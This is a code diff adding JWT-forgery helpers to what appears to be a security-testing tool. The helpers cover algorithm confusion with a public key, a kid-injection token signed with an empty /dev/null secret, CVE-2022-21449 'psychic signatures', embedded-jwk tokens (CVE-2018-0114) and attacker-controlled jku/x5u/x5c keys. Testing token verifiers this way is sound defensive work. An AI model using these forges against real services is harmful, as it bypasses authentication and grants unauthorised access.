@@ -4,7 +4,10 @@
  * Pure functions of claims or of a valid token (signWithForeignKey also makes a key).
  */
 import { createHmac } from 'node:crypto';
-import type { JWTPayload } from 'jose';
+import { rm } from 'node:fs/promises';
+import { dirname } from 'node:path';
+import { importPKCS8, type CryptoKey, type JWK, type JWTPayload } from 'jose';
+import { createSelfSignedCertificate } from '../tls/selfSigned.js';
 import { decodeBytes, decodeJson, encodeBytes, encodeJson, joinJwt, splitJwt } from './jwt-parts.js';
 import { generateSigningKey, type SigningAlg } from './keys.js';
 import { signClaims } from './sign.js';
@@ -32,11 +35,90 @@ export function withAlgNone(claims: JWTPayload, options: AlgNoneOptions = {}): s
  * `kid` should name the RS256 key so the target finds that PEM.
  */
 export function withHs256PublicKey(claims: JWTPayload, publicKeyPem: string, options: { kid?: string } = {}): string {
+  return withHs256(claims, Buffer.from(publicKeyPem, 'utf8'), options);
+}
+
+/**
+ * HS256 with a secret of the attacker's choosing. Node's HMAC takes an empty key, which
+ * WebCrypto (and so jose) refuses: the kid-injection forge signs with the empty contents
+ * of /dev/null.
+ */
+export function withHs256(claims: JWTPayload, secret: Uint8Array, options: { kid?: string } = {}): string {
   const header: Record<string, unknown> = { alg: 'HS256', typ: 'JWT' };
   if (options.kid !== undefined) header.kid = options.kid;
   const signingInput = `${encodeJson(header)}.${encodeJson(claims)}`;
-  const mac = createHmac('sha256', Buffer.from(publicKeyPem, 'utf8')).update(signingInput).digest();
+  const mac = createHmac('sha256', secret).update(signingInput).digest();
   return `${signingInput}.${encodeBytes(mac)}`;
+}
+
+/**
+ * The claims as JSON text with `name` given a second time, `last` after the original:
+ * RFC 7519 (4) lets a parser refuse repeated names or keep the last, never the first.
+ */
+export function repeatClaim(claims: JWTPayload, name: string, last: unknown): string {
+  const text = JSON.stringify(claims);
+  return `${text.slice(0, -1)},${JSON.stringify(name)}:${JSON.stringify(last)}}`;
+}
+
+/** Header, claims and signature bytes put together as given: for signatures no key made. */
+export function withSignatureBytes(header: Record<string, unknown>, claims: JWTPayload, signature: Uint8Array): string {
+  return joinJwt({ header: encodeJson(header), payload: encodeJson(claims), signature: encodeBytes(signature) });
+}
+
+/** The order n of the P-256 group: ECDSA requires 0 < r, s < n. */
+const P256_ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
+
+/**
+ * ES256 signatures outside the range ECDSA allows. r = s = 0 verified any message under
+ * any key in Java 15-18 (CVE-2022-21449, "psychic signatures"); jwt_tool sends it both
+ * as the 64 raw bytes JWS uses and in the DER form some libraries expect.
+ */
+export const PSYCHIC_SIGNATURES: ReadonlyArray<readonly [what: string, signature: Uint8Array]> = [
+  ['r = s = 0', new Uint8Array(64)],
+  ['r = s = 0 in DER', Uint8Array.from([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])],
+  ['r = s = n (the P-256 order)', new Uint8Array(Buffer.concat([P256_ORDER, P256_ORDER]))],
+];
+
+/**
+ * Signed by a fresh key whose public half rides in the header's jwk (CVE-2018-0114): a
+ * target that verifies with the key the token brings accepts anything.
+ */
+export async function withEmbeddedJwk(claims: JWTPayload, alg: SigningAlg, options: { kid?: string } = {}): Promise<string> {
+  const key = await generateSigningKey(alg, options.kid);
+  const { kid: _kid, alg: _alg, use: _use, ...jwk } = key.publicJwk;
+  return signClaims(claims, { alg, privateKey: key.privateKey, kid: options.kid, header: { jwk } });
+}
+
+/** An attacker's key pair and the JWKS that lists it, for a token whose jku points at that JWKS. */
+export async function attackerJwks(alg: SigningAlg, kid?: string): Promise<{ jwks: { keys: JWK[] }; sign: (claims: JWTPayload, header: Record<string, unknown>) => Promise<string> }> {
+  const key = await generateSigningKey(alg, kid);
+  return {
+    jwks: { keys: [key.publicJwk] },
+    sign: (claims, header) => signClaims(claims, { alg, privateKey: key.privateKey, kid: key.kid, header }),
+  };
+}
+
+export interface AttackerCertificate {
+  /** The self-signed certificate, PEM (what an x5u URL serves). */
+  pem: string;
+  /** Its DER in standard base64 (what an x5c header carries). */
+  x5c: string;
+  /** Signs ES256 with the certificate's key. */
+  sign: (claims: JWTPayload, header: Record<string, unknown>) => Promise<string>;
+}
+
+/** A self-signed EC P-256 certificate of the attacker's, for the x5u and x5c forges. */
+export async function attackerCertificate(): Promise<AttackerCertificate> {
+  const made = await createSelfSignedCertificate({ hosts: ['127.0.0.1'] });
+  // The key is the attacker's and worthless, but nothing of a run is left behind in /tmp.
+  await rm(dirname(made.keyPath), { recursive: true, force: true });
+  const privateKey: CryptoKey = await importPKCS8(made.key, 'ES256');
+  const x5c = made.cert.replace(/-----(BEGIN|END) CERTIFICATE-----|\s/g, '');
+  return {
+    pem: made.cert,
+    x5c,
+    sign: (claims, header) => signClaims(claims, { alg: 'ES256', privateKey, header }),
+  };
 }
 
 /** Changes claims and keeps the original signature (which no longer matches). Undefined removes a claim. */
